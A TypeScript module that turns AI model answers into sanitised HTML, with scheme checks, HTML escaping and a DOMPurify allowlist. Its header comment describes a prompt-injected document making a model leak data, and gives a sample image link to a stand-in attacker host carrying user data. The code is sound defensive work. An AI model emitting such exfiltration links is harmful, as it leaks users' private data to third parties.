/**
 * Markdown → HTML for model answers and shared chats.
 *
 * Model output is untrusted (a prompt-injected document can make the model write anything), so two
 * layers stand between it and the page:
 *  1. markdown-it with `html: false`: raw HTML in the text is escaped, never parsed, and links are
 *     limited to http(s), mailto and same-site addresses. This alone is safe, and it is what runs
 *     on the server (the public share page renders there, where there is no DOM).
 *  2. DOMPurify in the browser, with an allowlist of exactly the tags and attributes this renderer
 *     emits, so a bug in a rule below can't turn into script either.
 * Images are shown as links rather than loaded: an answer that embeds
 * `![](https://attacker.example/?q=<your data>)` would otherwise leak data the moment it renders.
 */
import DOMPurify from 'dompurify';
import MarkdownIt, { type MarkdownIt as Markdown, type RendererRule, type Token } from 'markdown-it';
import { highlightCode, knownLanguage } from './highlight';

/** Every tag and attribute the rules below can produce; the sanitizer keeps only these. */
export const ALLOWED_TAGS = [
	'a', 'blockquote', 'br', 'button', 'code', 'del', 'div', 'em', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr',
	'li', 'ol', 'p', 'pre', 's', 'span', 'strong', 'table', 'tbody', 'td', 'th', 'thead', 'tr', 'ul'
] as const;
export const ALLOWED_ATTRIBUTES = ['aria-label', 'class', 'data-copy-code', 'href', 'rel', 'start', 'target', 'title', 'type'] as const;

const SAFE_SCHEMES = new Set(['http:', 'https:', 'mailto:']);

/** Absolute links must use a safe scheme; relative ones (#section, /path) stay on this site. */
export function isSafeHref(url: string): boolean {
	// Browsers ignore control characters and whitespace inside a scheme ("java\tscript:"), so do we.
	const compact = url.replace(/[\u0000-\u0020\u007f-\u009f]/g, '');
	const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(compact)?.[1];
	if (scheme === undefined) return !compact.startsWith('//') && !compact.startsWith('\\');
	return SAFE_SCHEMES.has(`${scheme.toLowerCase()}:`);
}

function escapeHtml(text: string): string {
	return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
}

/** markdown-it hands rules the token list and an index that is always inside it. */
function tokenAt(tokens: Token[], idx: number): Token {
	const token = tokens[idx];
	if (!token) throw new Error(`markdown-it gave a rule index ${idx} outside its ${tokens.length} tokens`);
	return token;
}

function attribute(token: Token, name: string): string {
	const value = token.attrGet(name);
	return value === null ? '' : String(value);
}

function codeBlock(code: string, info: string): string {
	const label = /^[\w+#.-]{1,32}/.exec(info.trim())?.[0] ?? '';
	const language = knownLanguage(label);
	const body = highlightCode(code, label) ?? escapeHtml(code);
	const languageClass = language ? ` language-${language}` : '';
	return (
		'<div class="code-block">' +
		`<div class="code-block-bar"><span class="code-block-lang">${escapeHtml(label || 'text')}</span>` +
		'<button type="button" class="code-block-copy" data-copy-code="" aria-label="Copy code">Copy</button></div>' +
		`<pre><code class="hljs${languageClass}">${body}</code></pre></div>\n`
	);
}

function createRenderer(): Markdown {
	const md = new MarkdownIt({ html: false, linkify: true, breaks: true, typographer: false });
	md.validateLink = isSafeHref;
	const rules = md.renderer.rules;

	rules.fence = (tokens, idx) => {
		const token = tokenAt(tokens, idx);
		return codeBlock(token.content, token.info);
	};
	rules.code_block = (tokens, idx) => codeBlock(tokenAt(tokens, idx).content, '');

	const renderToken = md.renderer.renderToken.bind(md.renderer);
	rules.link_open = (tokens, idx, options) => {
		const token = tokenAt(tokens, idx);
		const href = attribute(token, 'href');
		// Links leave the app in a new tab; same-site fragments stay where they are.
		if (!href.startsWith('#')) {
			token.attrSet('target', '_blank');
			token.attrSet('rel', 'noopener noreferrer nofollow');
		}
		return renderToken(tokens, idx, options);
	};

	// An image becomes a link to it: nothing is fetched until the person chooses to open it.
	rules.image = (tokens, idx) => {
		const token = tokenAt(tokens, idx);
		const src = attribute(token, 'src');
		const alt = token.content.trim() || 'image';
		const text = `Image: ${escapeHtml(alt)}`;
		if (!isSafeHref(src)) return text;
		return `<a href="${escapeHtml(src)}" target="_blank" rel="noopener noreferrer nofollow" class="md-image-link">${text}</a>`;
	};

	// Wide tables scroll sideways on their own instead of widening the whole page.
	rules.table_open = () => '<div class="table-wrap"><table>\n';
	rules.table_close = () => '</table></div>\n';

	// Column alignment as a class rather than an inline style, so no style attribute is ever needed.
	const alignedCell: RendererRule = (tokens, idx, options) => {
		const token = tokenAt(tokens, idx);
		const align = /text-align:(left|right|center)/.exec(attribute(token, 'style'))?.[1];
		if (token.attrs) token.attrs = token.attrs.filter(([name]) => name !== 'style');
		if (align) token.attrJoin('class', `align-${align}`);
		return renderToken(tokens, idx, options);
	};
	rules.th_open = alignedCell;
	rules.td_open = alignedCell;

	return md;
}

const markdown = createRenderer();

/** HTML from markdown-it alone: raw HTML escaped, links checked. Safe by construction; see above. */
export function markdownToHtml(source: string): string {
	return markdown.render(source);
}

const purifyConfig = {
	ALLOWED_TAGS: [...ALLOWED_TAGS],
	ALLOWED_ATTR: [...ALLOWED_ATTRIBUTES],
	ALLOW_DATA_ATTR: false,
	ALLOW_ARIA_ATTR: false,
	ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|#|\/(?!\/)|[^:/?#]*(?:[/?#]|$))/i
};

/** DOMPurify needs a DOM: in the browser it runs; on the server markdown-it's escaping stands alone. */
export function sanitizeHtml(html: string): string {
	if (typeof window === 'undefined' || typeof DOMPurify.sanitize !== 'function' || !DOMPurify.isSupported) return html;
	return DOMPurify.sanitize(html, purifyConfig);
}

/** Markdown → HTML safe to insert with {@html}. */
export function renderMarkdown(source: string): string {
	return sanitizeHtml(markdownToHtml(source));
}
